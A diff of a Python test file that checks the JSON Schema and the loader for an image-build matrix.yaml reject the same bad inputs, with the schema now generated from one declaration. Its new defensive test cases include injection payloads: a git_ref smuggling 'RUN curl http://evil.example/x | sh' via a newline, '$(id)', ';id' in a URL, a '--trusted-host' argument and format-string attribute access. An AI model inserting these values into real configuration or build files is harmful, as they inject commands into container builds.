@@ -1,4 +1,5 @@
-"""The JSON Schema for matrix.yaml accepts the real file and rejects what the loader rejects."""
+"""One declaration of matrix.yaml's shape (imagefactory/plan/schema.py): the loader reads its tables, and
+imagefactory/plan/matrix.schema.json is generated from it. The two validators agree."""
 
 from __future__ import annotations
 
@@ -11,12 +12,16 @@ import pytest
 import yaml
 
 from imagefactory.errors import ConfigError
+from imagefactory.plan import schema
 from imagefactory.plan.matrix import parse_matrix
 
-SCHEMA = json.loads((Path(__file__).resolve().parents[2] / "imagefactory" / "plan" / "matrix.schema.json").read_text())
+REPO = Path(__file__).resolve().parents[2]
+SCHEMA = schema.json_schema()
 
 
-def test_schema_is_valid() -> None:
+def test_the_schema_file_is_generated() -> None:
+    """`imagefactory render` writes it; a hand edit shows up here and in `render --check`."""
+    assert (REPO / schema.SCHEMA_PATH).read_text(encoding="utf-8") == schema.schema_text()
     jsonschema.Draft202012Validator.check_schema(SCHEMA)
 
 
@@ -37,37 +42,36 @@ def _set(data: dict, path: tuple, value) -> dict:
     ("path", "value"),
     [
         (("image_rep",), "x"),  # unknown key
+        (("image_repo",), "imagefactory\n"),  # a trailing newline passes no pattern
         (("toolkits", "cu130", "version"), 13.0),  # number, not string
         (("toolkits", "cu130", "nvcc", "slim", "from"), "conda"),
         (("arches", "hopper", "sms"), ["9"]),
+        (("arches", "hopper", "description"), "two\nlines"),
         (("bitsandbytes", "mode"), "binary"),
+        (("bitsandbytes", "git_ref"), "0.50.2\nRUN curl http://evil.example/x | sh"),
+        (("bitsandbytes", "git_ref"), "$(id)"),
+        (("bitsandbytes", "git_url"), "https://github.com/x/y;id"),
+        (("torch_index_url",), "--trusted-host evil {toolkit}"),
+        (("torch_index_url",), "https://x.example/{0}/{toolkit}"),
+        (("torch_index_url",), "https://x.example/{toolkit.__class__}"),
+        (("torch_index_url",), "https://x.example/{toolkit}}"),
         (("cells", "expand"), "some"),
         (("payloads",), []),
         (("torch", "2.14.1", "triton"), "3.8.x"),
+        (("torch", "2.14.1", "python"), ["3.11\n"]),
     ],
 )
 def test_schema_and_loader_agree_on_rejections(matrix_data: dict, path: tuple, value) -> None:
     bad = _set(matrix_data, path, value)
     with pytest.raises(jsonschema.ValidationError):
         jsonschema.validate(bad, SCHEMA)
-    with pytest.raises(ConfigError):
+    with pytest.raises(ConfigError) as info:
         parse_matrix(yaml.safe_dump(bad, sort_keys=False), Path("matrix.yaml"))
+    assert all("\n" not in problem for problem in info.value.problems)
 
 
-def test_schema_spells_the_vocabulary_as_the_loader_does() -> None:
-    """The schema is JSON and cannot import the loader's tables: pin each copy to its original."""
+def test_the_loader_checks_keys_from_the_schema() -> None:
     from imagefactory.plan import matrix as loader
-    from imagefactory.plan.model import FLAVORS, TRAIN_DTYPES
 
-    props, defs = SCHEMA["properties"], SCHEMA["$defs"]
-    assert set(props) == set(loader.TOP_KEYS)
-    assert set(SCHEMA["required"]) == {key for key, required in loader.TOP_KEYS.items() if required}
-    assert defs["flavorName"]["enum"] == list(FLAVORS)
-    assert defs["nvccSource"]["properties"]["from"]["enum"] == list(loader.NVCC_ORIGINS)
-    assert defs["requirement"]["pattern"] == loader.REQUIREMENT_RE.pattern
-    assert defs["imageRef"]["pattern"] == loader.IMAGE_REF_RE.pattern
-    arch = props["arches"]
-    assert arch["propertyNames"]["pattern"] == loader.NAME_RE.pattern
-    assert arch["additionalProperties"]["properties"]["capabilities"]["items"]["enum"] == list(loader.CAPABILITIES)
-    cell = props["cells"]["properties"]["extra"]["items"]["properties"]
-    assert cell["dtype"]["enum"] == list(TRAIN_DTYPES)
+    assert loader.TOP_KEYS == schema.keys(schema.ROOT)
+    assert set(json.loads(schema.schema_text())["required"]) == {k for k, required in loader.TOP_KEYS.items() if required}
